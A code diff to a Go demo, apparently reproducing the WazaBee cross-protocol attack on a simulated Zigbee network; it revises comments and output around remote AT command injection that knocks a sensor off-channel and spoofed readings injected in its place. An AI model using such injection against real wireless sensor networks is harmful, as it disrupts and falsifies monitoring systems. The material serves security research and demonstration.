@@ -4,8 +4,9 @@
 // The nRF51822 lacks LE 2M, so the attack runs over Nordic's Enhanced
 // ShockBurst at 2 Mbit/s — noisier, but sufficient. Four steps, as in
 // Figure 5: active scan, eavesdropping, remote AT command injection (a
-// denial of service pushing the sensor off-channel) and fake data
-// injection mimicking the silenced sensor.
+// denial of service pushing the sensor off-channel, which detaches it
+// from the network) and fake data injection mimicking the silenced
+// sensor.
 package main
 
 import (
@@ -14,6 +15,7 @@ import (
 
 	"wazabee"
 	"wazabee/internal/ieee802154"
+	"wazabee/internal/zigbee"
 )
 
 const (
@@ -68,18 +70,18 @@ func run() error {
 	if err := tracker.InjectChannelChange(info, sensor, dosChannel); err != nil {
 		return err
 	}
-	fmt.Printf("step 3 — AT command injected: sensor now on channel %d (network is on %d)\n",
-		network.Sensor.Channel, info.Channel)
+	fmt.Printf("step 3 — AT command injected: sensor retuned to channel %d, detached from the network on %d\n",
+		dosChannel, info.Channel)
 
-	// The silenced sensor keeps reporting — on the wrong channel.
-	before := len(network.Coordinator.Readings)
+	// The silenced sensor no longer reaches the coordinator.
+	before := len(network.Network.Display(zigbee.CoordinatorNode))
 	for i := 0; i < 3; i++ {
 		if _, err := network.Step(info.Channel); err != nil {
 			return err
 		}
 	}
-	fmt.Printf("         sensor sent 3 readings, coordinator received %d of them\n",
-		len(network.Coordinator.Readings)-before)
+	fmt.Printf("         over 3 reporting periods the coordinator received %d sensor readings\n",
+		len(network.Network.Display(zigbee.CoordinatorNode))-before)
 
 	// Step 4: fake data injection.
 	for _, value := range []uint16{8080, 8081, 8082} {
@@ -90,7 +92,7 @@ func run() error {
 	fmt.Println("step 4 — spoofed readings acknowledged by the coordinator")
 
 	fmt.Println("\ncoordinator display log (tail):")
-	readings := network.Coordinator.Readings
+	readings := network.Network.Display(zigbee.CoordinatorNode)
 	start := 0
 	if len(readings) > 6 {
 		start = len(readings) - 6
